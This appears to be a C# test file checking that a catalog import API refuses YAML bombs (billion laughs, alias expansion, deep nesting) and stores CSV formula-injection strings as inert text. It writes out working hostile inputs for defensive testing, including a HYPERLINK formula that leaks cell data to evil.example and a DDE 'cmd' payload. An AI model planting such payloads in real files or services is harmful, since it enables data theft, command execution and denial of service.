using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using DevOpsProvider.Web.Catalog;

namespace DevOpsProvider.Tests.Catalog;

/// <summary>
/// Hostile import files: YAML bombs (alias expansion, merge keys, deep nesting) refused before any expansion, and
/// CSV injection payloads stored exactly as given (they are data; the dashboard shows them as text, see
/// Dashboard/HostileDashboardTests, and the app offers no CSV export that a spreadsheet would evaluate).
/// </summary>
public sealed class HostileImportTests(HostileCatalog hostile) : IClassFixture<HostileCatalog>
{
    private const string Import = "api/v1/components/import";

    private Task<HttpResponseMessage> PostAsync(string body, string mediaType, string query = "")
        => hostile.Api.PostAsync(Import + query, new StringContent(body, Encoding.UTF8, mediaType));

    /// <summary>The classic "billion laughs": nine levels of nine aliases stand for 9^9 strings once walked.</summary>
    private static string BillionLaughs()
    {
        var yaml = new StringBuilder("kind: Component\nmetadata:\n  name: laughs\n  annotations:\n    l0: &l0 \"lol\"\n");
        for (var level = 1; level <= 9; level++)
        {
            yaml.Append($"    l{level}: &l{level} [{string.Join(",", Enumerable.Repeat($"*l{level - 1}", 9))}]\n");
        }

        return yaml.Append("  description: *l9\n").ToString();
    }

    public static TheoryData<string, string, string> Bombs() => new()
    {
        { "billion laughs", BillionLaughs(), "aliases" },
        { "merge key", "base: &base\n  kind: Component\n---\n<<: *base\nmetadata:\n  name: merged\n", "aliases" },
        { "huge alias", "kind: Component\nmetadata:\n  name: huge\n  description: &big " + new string('x', 100_000) + "\n  annotations:\n"
            + string.Concat(Enumerable.Range(0, 1000).Select(i => $"    a{i}: *big\n")), "aliases" },
        { "deep flow mappings", string.Concat(Enumerable.Repeat("{a: ", 10_000)) + "1" + new string('}', 10_000), "nested deeper than 64" },
        { "deep block sequences", string.Concat(Enumerable.Repeat("- ", 10_000)) + "x\n", "nested deeper than 64" },
        { "deep flow sequences", new string('[', 10_000) + new string(']', 10_000), "nested deeper than 64" },
    };

    [Theory]
    [MemberData(nameof(Bombs))]
    public async Task BackstageYamlBomb_IsRefusedWith400_NamingTheRuleAndLine(string bomb, string yaml, string rule)
    {
        var problem = await hostile.RefusedAsync(() => PostAsync(yaml, "application/yaml"), HttpStatusCode.BadRequest);

        var detail = (string?)problem["detail"];
        Assert.True(detail?.Contains(rule, StringComparison.Ordinal) == true, $"{bomb}: {detail}");
        Assert.Matches(@"\(line \d+\)", detail);
    }

    [Theory]
    [MemberData(nameof(Bombs))]
    public void BackstageYamlBomb_IsRefusedWhileParsing_WithBoundedAllocation(string bomb, string yaml, string rule)
    {
        var before = GC.GetAllocatedBytesForCurrentThread();

        var refused = Assert.Throws<ImportFileException>(
            () => BackstageImport.Read(new StringReader(yaml), new BackstageDefaults("Tier 4", "https://e.example/a.png", null)));

        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        Assert.Contains(rule, refused.Message, StringComparison.Ordinal);
        // Refused at the first alias or the 65th level: a few times the input at most, never the expansion
        // (the billion laughs alone would be 9^9 strings once walked).
        Assert.True(allocated < 16 * 1024 * 1024, $"{bomb}: {allocated} bytes allocated");
    }

    [Fact]
    public async Task BackstageYaml_WithADuplicateKey_IsRefusedWith400()
    {
        const string yaml = "kind: Component\nmetadata:\n  name: twice\n  name: thrice\nspec:\n  type: service\n";

        var problem = await hostile.RefusedAsync(() => PostAsync(yaml, "application/yaml"), HttpStatusCode.BadRequest);

        Assert.Contains("line 4", (string?)problem["detail"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Csv_WithARepeatedColumn_IsRefusedWith400_NamingIt()
    {
        const string csv = "id,name,description,url,avatarUrl,tier,componentType,Name\nrep-1,A,B,https://e.example/1,https://e.example/a.png,Tier 2,Service,C\n";

        var problem = await hostile.RefusedAsync(() => PostAsync(csv, "text/csv"), HttpStatusCode.BadRequest);

        Assert.Contains("'name' appears more than once", (string?)problem["detail"], StringComparison.Ordinal);
    }

    public static TheoryData<string, string, string> Injections() => new()
    {
        { "inj-equals", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "=1+2" },
        { "inj-plus", "+1+2", "+cmd|' /C calc'!A0" },
        { "inj-minus", "-2+3", "-1+1" },
        { "inj-at", "@SUM(1+1)", "@cmd" },
        { "inj-tab", "\t=1+2", "\t=cmd" },
        { "inj-cr", "\r=1+2", "\r=cmd" },
    };

    [Fact]
    public async Task CsvInjectionPayloads_AreStoredExactlyAsGiven()
    {
        static string Cell(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var rows = Injections().Select(row => (Id: (string)row[0], Name: (string)row[1], Description: (string)row[2])).ToArray();
        var csv = "id,name,description,url,avatarUrl,tier,componentType\n" + string.Concat(rows.Select(r =>
            $"{r.Id},{Cell(r.Name)},{Cell(r.Description)},https://e.example/{r.Id},https://e.example/a.png,Tier 3,Service\n"));

        using var response = await PostAsync(csv, "text/csv");
        var report = await CatalogApp.ReadAsync(response);

        Assert.True(response.StatusCode == HttpStatusCode.OK, report.ToJsonString());
        Assert.Equal(rows.Length, (int)report["created"]!);
        foreach (var (id, name, description) in rows)
        {
            var stored = await hostile.Api.GetFromJsonAsync<JsonObject>(CatalogApp.Path(id));
            Assert.Equal(name, (string?)stored!["name"]);
            Assert.Equal(description, (string?)stored["description"]);
        }
    }
}
